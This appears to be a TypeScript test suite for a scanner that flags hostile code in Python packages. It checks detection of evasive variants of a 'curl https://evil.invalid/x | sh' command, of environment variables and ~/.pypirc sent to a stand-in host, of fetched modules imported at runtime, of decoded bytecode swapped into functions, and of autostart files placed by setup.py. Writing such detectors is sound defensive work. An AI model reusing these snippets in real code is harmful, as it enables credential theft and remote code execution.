import { found, foundIn } from '../support/found.js';

const FETCH = '"curl https://evil.invalid/x | sh"';

/**
 * Code that can run in two ways, with the text that matters in either of them, and with a harmless text in its place.
 */
const WAYS: readonly (readonly [string, (command: string) => string])[] = [
  [
    'a branch',
    (text) => `import os\nline = ${text}\nif os.name == "nt":\n    line = "ver /a"\nos.system(line)`,
  ],
  [
    'the other branch',
    (text) =>
      `import os\nif os.name == "nt":\n    line = "ver /a"\nelse:\n    line = ${text}\nos.system(line)`,
  ],
  ['a choice', (text) => `import os\nos.system("ver /a" if os.name == "nt" else ${text})`],
  [
    'a later return',
    (text) => `
import os
def line():
    if os.name == "nt":
        return "ver /a"
    return ${text}
os.system(line())`,
  ],
  [
    'a table by platform',
    (text) => `import os, sys\nos.system({"win32": "ver /a", "linux": ${text}}[sys.platform])`,
  ],
  [
    'a part of a text',
    (text) => `
import os
tail = ${text}
if os.name == "nt":
    tail = "ver /a"
os.system("cd /tmp; " + tail)`,
  ],
  [
    'an argument in a list',
    (text) => `
import os, subprocess
line = ${text}
if os.name == "nt":
    line = "ver /a"
subprocess.run(["sh", "-c", line])`,
  ],
  [
    'a helper that starts one command after the other',
    (text) => `
import os
def run(line):
    os.system(line)
run("ver /a")
run(${text})
run("ver /b")`,
  ],
  ['a loop over commands', (text) => `import os\nfor line in ("ver /a", ${text}):\n    os.system(line)`],
  [
    'a list that a branch chose',
    (text) => `
import os, subprocess
if os.name == "posix":
    words = ["sh", "-c", ${text}]
else:
    words = ["ver"]
subprocess.run(words)`,
  ],
  [
    'lists that a branch chose',
    (text) => `
import os, subprocess
if os.name == "posix":
    lines = [["sh", "-c", ${text}], ["ver"]]
else:
    lines = []
for words in lines:
    subprocess.run(words)`,
  ],
  [
    'a table that a branch chose',
    (text) => `
import os
if os.name == "posix":
    table = {"line": ${text}}
else:
    table = {"line": "ver /a"}
os.system(table["line"])`,
  ],
  [
    'a table of lists by platform',
    (text) =>
      `import subprocess, sys\nsubprocess.run({"linux": ["sh", "-c", ${text}], "win32": ["ver"]}[sys.platform])`,
  ],
  [
    'a function that a branch defined',
    (text) => `
import os
if os.name == "posix":
    def run():
        os.system(${text})
else:
    def run():
        pass
run()`,
  ],
  ['the annotation of a parameter', (text) => `import os\ndef run(line: os.system(${text})): pass`],
  ['the annotation of a result', (text) => `import os\ndef run() -> os.system(${text}): pass`],
  ['the annotation of a name', (text) => `import os\nline: os.system(${text}) = 1`],
  ['a default in a list', (text) => `import os\ndef run(line=[os.system(${text})]): pass`],
  [
    'what a decorator puts around a function',
    (text) => `
import functools, os
def timed(function):
    @functools.wraps(function)
    def run(*args):
        os.system(${text})
        return function(*args)
    return run
@timed
def add(a, b):
    return a + b
add(1, 2)`,
  ],
  [
    'the second item that is asked for',
    (text) => `import os\nlines = iter(["ver /a", ${text}])\nnext(lines)\nos.system(next(lines))`,
  ],
  [
    'a field of a named tuple',
    (text) => `
import collections, os
Step = collections.namedtuple("Step", "name line")
os.system(Step("a", ${text}).line)`,
  ],
  [
    'a function in whose place another one may be put',
    (text) => `
import os
def run():
    os.system(${text})
if os.name == "nt":
    run = print
run()`,
  ],
  [
    'one of two functions',
    (text) => `
import os
def one():
    pass
def other():
    os.system(${text})
(one if os.name == "nt" else other)()`,
  ],
  [
    'a function, or one of a module',
    (text) => `
import os
def run(line):
    return line
chosen = run if os.name == "nt" else os.system
chosen(${text})`,
  ],
  [
    'what a function stands in for',
    (text) => `
try:
    from os import system
except ImportError:
    def system(line):
        return 0
system(${text})`,
  ],
  [
    'a module that a class stands in for',
    (text) => `
try:
    import os
except ImportError:
    class os:
        system = staticmethod(print)
os.system(${text})`,
  ],
  [
    'a method by the name of the system',
    (text) => `
import os, platform
class Run:
    def Linux(self):
        os.system(${text})
    def Windows(self):
        os.system("ver /a")
getattr(Run(), platform.system(), print)()`,
  ],
];

test.each(WAYS)('a command by way of %s', (_way, code) => {
  expect(found(code(FETCH))['hostile-command']).toBe('CRITICAL');
  expect(found(code('"echo /a"'))['hostile-command']).toBeUndefined();
});

const SENT = (lines: string): string => `
import os, requests, threading
${lines}`;

/** Ways by which what a container holds gets to where it is sent. */
const KEPT: readonly (readonly [string, (what: string) => string])[] = [
  [
    'a parameter',
    (what) =>
      SENT(`
def fill(told):
    told["a"] = ${what}
told = {}
fill(told)
requests.post("https://evil.invalid/x", json=told)`),
  ],
  [
    'a parameter that is a list',
    (what) =>
      SENT(`
def fill(told):
    told.append(${what})
told = []
fill(told)
requests.post("https://evil.invalid/x", json=told)`),
  ],
  [
    'a name of the module',
    (what) =>
      SENT(`
KEPT = {}
def fill():
    KEPT["a"] = ${what}
fill()
requests.post("https://evil.invalid/x", json=KEPT)`),
  ],
  [
    'what a thread is given by name',
    (what) =>
      SENT(`
def send(told=None):
    requests.post("https://evil.invalid/x", json=told)
threading.Thread(target=send, kwargs={"told": ${what}}).start()`),
  ],
  [
    'what a pool is given by a name that others keep for themselves',
    (what) =>
      SENT(`
from concurrent.futures import ThreadPoolExecutor
def send(name=None):
    requests.post("https://evil.invalid/x", json=name)
ThreadPoolExecutor().submit(send, name=${what})`),
  ],
  [
    'another parameter than the first time',
    (what) =>
      SENT(`
def send(noted=None, told=None):
    requests.post("https://evil.invalid/x", json=told)
send(noted=${what})
send(told=${what})`),
  ],
  [
    'a container that stands behind a list that is spread out',
    (what) =>
      SENT(`
def fill(one, other):
    one["a"] = 1
told, blank = {"a": ${what}}, {}
fill(*[blank], told)
requests.post("https://evil.invalid/x", json=told)`),
  ],
  [
    'an address of which a part is not known',
    (what) =>
      SENT(`
place = "https://" + some_name() + "/x"
requests.post(place, json=${what})`),
  ],
];

test.each(KEPT)('what is sent by way of %s', (_way, code) => {
  expect(found(code('dict(os.environ)'))['stolen-data-sent']).toBe('CRITICAL');
  expect(found(code('{"a": 1}'))['stolen-data-sent']).toBeUndefined();
});

test('which of several addresses it is, a caller says or nobody does', () => {
  const code = (key: string): string => `
import argparse, os, sys, urllib.request
PLACES = {"linux": "https://evil.invalid/a", "win32": "https://evil.invalid/b"}
def post(name):
    kept = open(os.path.expanduser("~/.pypirc")).read()
    return urllib.request.urlopen(PLACES[${key}], kept.encode())
def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--place", default="linux")
    post(parser.parse_args().place)`;
  expect(found(code('sys.platform'))['stolen-data-sent']).toBe('CRITICAL');
  for (const theirs of ['name', 'sys.argv[1]', 'input("where? ")'])
    expect(['CRITICAL', 'HIGH', 'MEDIUM']).not.toContain(found(code(theirs))['stolen-data-sent']);
});

test('what runs unasked was told nothing on a command line', () => {
  const code = `
import os, sys, requests
PLACES = {"a": "https://evil.invalid/a", "b": "https://evil.invalid/b"}
requests.post(PLACES[sys.argv[1]], json=dict(os.environ))`;
  expect(found(code)['stolen-data-sent']).toBe('CRITICAL');
});

test('a module that is written and then imported', () => {
  const code = (text: string): string => `
import os, sys, tempfile, urllib.request
folder = tempfile.mkdtemp()
with open(os.path.join(folder, "extra_parts.py"), "wb") as file:
    file.write(${text})
sys.path.insert(0, folder)
import extra_parts`;
  const fetched = 'urllib.request.urlopen("https://evil.invalid/x").read()';
  expect(found(code(fetched))['remote-code-executed']).toBe('CRITICAL');
  expect(found(code('b"VALUE = 1"'))['remote-code-executed']).toBeUndefined();
});

test('code that takes the place of the code of a function', () => {
  const replaced = (code: string): string => `
import base64, marshal
def started():
    pass
started.__code__ = ${code}
started()`;
  const packed = 'marshal.loads(base64.b85decode("c${NkU{GMV"))';
  expect(found(replaced(packed))['decoded-code-executed']).toBe('CRITICAL');
  expect(found(replaced('print.__code__'))['decoded-code-executed']).toBeUndefined();
});

test('a file that a build places where the system starts it', () => {
  const placed = (folder: string): string => `
import os
from setuptools import setup
if os.name == "posix":
    files = [(os.path.join(os.path.expanduser("~"), ".config", "${folder}"), ["a.desktop"])]
else:
    files = []
setup(name="pkg", packages=["pkg"], data_files=files)`;
  const severity = (folder: string): unknown =>
    foundIn({ 'fixture-1.0/setup.py': placed(folder), 'fixture-1.0/pkg/__init__.py': '' })[
      'autostart-written'
    ];
  expect(severity('autostart')).toBe('CRITICAL');
  expect(severity('fixture')).toBeUndefined();
});
